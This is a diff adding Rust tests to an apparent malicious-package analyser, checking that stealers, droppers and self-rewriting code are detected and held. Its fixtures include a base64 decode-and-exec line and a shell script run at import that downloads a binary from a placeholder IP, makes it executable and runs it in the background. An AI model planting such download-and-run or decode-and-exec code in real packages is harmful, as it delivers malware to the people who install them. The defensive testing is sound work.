@@ -822,3 +822,190 @@ fn an_added_dependency_is_judged_by_the_dependency() {
     let risk = dependency_risk(&[gone], now);
     assert_eq!(risk[0].severity, Severity::High, "{risk:?}");
 }
+
+/// Code nested far deeper than hand-written code (compiled interpreters nest about
+/// 5,000 deep) is still parsed, on a thread with a stack for it, whatever the
+/// caller's stack: this test runs on the test harness's small one.
+#[test]
+fn deeply_nested_code_is_parsed_on_a_stack_that_fits() {
+    let depth = 6_000;
+    let code = format!(
+        "var x = {}1{};\nrequire('child_process').exec(Buffer.from('Y3VybCB4', 'base64').toString());\n",
+        "(()=>(".repeat(depth),
+        "))".repeat(depth)
+    );
+    let package = airlock_test::PackageBuilder::new("deep-nest", "1.0.0")
+        .file("index.js", code)
+        .build();
+    let analysis = analyse(&package);
+    assert!(
+        !codes(&analysis).contains(&Code::AnalysisIncomplete),
+        "{}",
+        report(&analysis)
+    );
+    assert!(
+        analysis
+            .findings
+            .iter()
+            .any(|finding| finding.rule.as_deref() == Some("decode-and-run")),
+        "the code after the deep part is analysed:\n{}",
+        report(&analysis)
+    );
+}
+
+/// Nesting made only to exhaust a parser is not parsed, and says so: the version
+/// waits for a person rather than passing unread.
+#[test]
+fn nesting_past_the_limit_is_reported_not_parsed() {
+    let code = format!("var x = {}1{};", "[".repeat(30_000), "]".repeat(30_000));
+    let package = airlock_test::PackageBuilder::new("too-deep", "1.0.0")
+        .file("index.js", code)
+        .build();
+    let analysis = analyse(&package);
+    assert!(
+        codes(&analysis).contains(&Code::AnalysisIncomplete),
+        "{}",
+        report(&analysis)
+    );
+    assert_ne!(verdict(&analysis, &package), Verdict::Allow);
+}
+
+/// A stealer whose sink sits in functions the file itself calls at its end runs
+/// when the package is imported, not only when someone calls it.
+#[test]
+fn functions_called_at_the_top_level_run_at_load() {
+    let analysis = check_blocked(&attacks::seed_phrase_stealer(), &[Code::DataExfiltration]);
+    let finding = analysis
+        .findings
+        .iter()
+        .find(|finding| finding.rule.as_deref() == Some("exfil-credentials"))
+        .unwrap_or_else(|| panic!("{}", report(&analysis)));
+    assert!(!finding.deferred, "{}", report(&analysis));
+    assert!(
+        finding.message.contains("the user's documents"),
+        "{}",
+        finding.message
+    );
+    // The same code exported and never called at load waits for its caller.
+    let tool = attacks::desktop_saver();
+    let analysis = analyse(&tool);
+    assert_eq!(
+        verdict(&analysis, &tool),
+        Verdict::Allow,
+        "{}",
+        report(&analysis)
+    );
+}
+
+#[test]
+fn files_dropped_on_the_desktop_at_import_are_held() {
+    let package = attacks::desktop_protestware();
+    let analysis = analyse(&package);
+    assert!(
+        rules_of(&analysis).contains(&"writes-user-files".to_owned()),
+        "{}",
+        report(&analysis)
+    );
+    assert!(
+        matches!(verdict(&analysis, &package), Verdict::Quarantine { .. }),
+        "{}",
+        report(&analysis)
+    );
+}
+
+/// `node -e "require('./lib/setup')"` runs `lib/setup.js` at install; it saves a
+/// download through a helper's parameter and runs it by the caller's variable.
+#[test]
+fn inline_node_scripts_reach_the_files_they_require() {
+    let analysis = check_blocked(&attacks::inline_install_dropper(), &[Code::DownloadExecute]);
+    let finding = analysis
+        .findings
+        .iter()
+        .find(|finding| finding.rule.as_deref() == Some("fetch-and-run"))
+        .unwrap_or_else(|| panic!("{}", report(&analysis)));
+    assert_eq!(finding.reach.as_str(), "install");
+    assert_eq!(finding.location(), "lib/setup.js:9");
+}
+
+#[test]
+fn code_that_rewrites_its_own_file_is_held() {
+    let package = attacks::self_erasing_tamper();
+    let analysis = analyse(&package);
+    assert!(
+        rules_of(&analysis).contains(&"rewrites-itself".to_owned()),
+        "{}",
+        report(&analysis)
+    );
+    assert_ne!(verdict(&analysis, &package), Verdict::Allow);
+}
+
+#[test]
+fn identity_posted_to_a_source_host_at_install_is_exfiltration() {
+    let analysis = check_blocked(&attacks::issue_comment_beacon(), &[Code::DataExfiltration]);
+    assert!(
+        rules_of(&analysis).contains(&"identity-to-source-host".to_owned()),
+        "{}",
+        report(&analysis)
+    );
+}
+
+#[test]
+fn fetched_text_revived_by_a_deserialiser_is_run() {
+    let analysis = check_blocked(&attacks::deserialising_loader(), &[Code::DownloadExecute]);
+    assert!(
+        rules_of(&analysis).contains(&"fetch-and-run".to_owned()),
+        "{}",
+        report(&analysis)
+    );
+}
+
+/// A manifest naming an entry point the tarball lacks says nothing about what
+/// runs: every code file is taken to run at import. One naming none (a command-line
+/// tool) does not make its files import code.
+#[test]
+fn a_missing_entry_point_makes_every_file_an_import_root() {
+    let stealer = attacks::discord_stealer();
+    let files = airlock_test::PackageBuilder::new("discord-emoji-tools", "0.1.3")
+        .field("main", serde_json::json!("browser.js"));
+    let mut moved = files;
+    for (path, contents) in
+        airlock_analyze::Archive::read(&stealer.tarball, &airlock_analyze::Limits::default())
+            .entries
+            .iter()
+            .filter(|entry| entry.path.starts_with("lib/"))
+            .map(|entry| (entry.path.clone(), entry.text().unwrap_or("").to_owned()))
+    {
+        moved = moved.file(&path, contents);
+    }
+    let package = moved.build();
+    let analysis = analyse(&package);
+    assert_eq!(
+        verdict(&analysis, &package),
+        Verdict::Block,
+        "{}",
+        report(&analysis)
+    );
+}
+
+/// A shell file that import-time code names runs when that code's function does:
+/// a download run from it is held, not left as code nothing runs.
+#[test]
+fn shell_files_named_by_import_code_are_judged() {
+    let package = airlock_test::PackageBuilder::new("ua-helper", "0.7.29")
+        .file(
+            "index.js",
+            "const { exec } = require('child_process');\nfunction linux() { exec('/bin/bash setup.sh'); }\nif (process.platform === 'linux') linux();\n",
+        )
+        .file(
+            "setup.sh",
+            "if [ -z \"$RUNNING\" ]\nthen\n  curl http://203.0.113.9/download/helper -o helper\n  chmod +x helper\n  ./helper --background &\nfi\n",
+        )
+        .build();
+    let analysis = analyse(&package);
+    assert!(
+        rules_of(&analysis).contains(&"shell-fetch-and-run".to_owned()),
+        "{}",
+        report(&analysis)
+    );
+    assert_ne!(verdict(&analysis, &package), Verdict::Allow);
+}
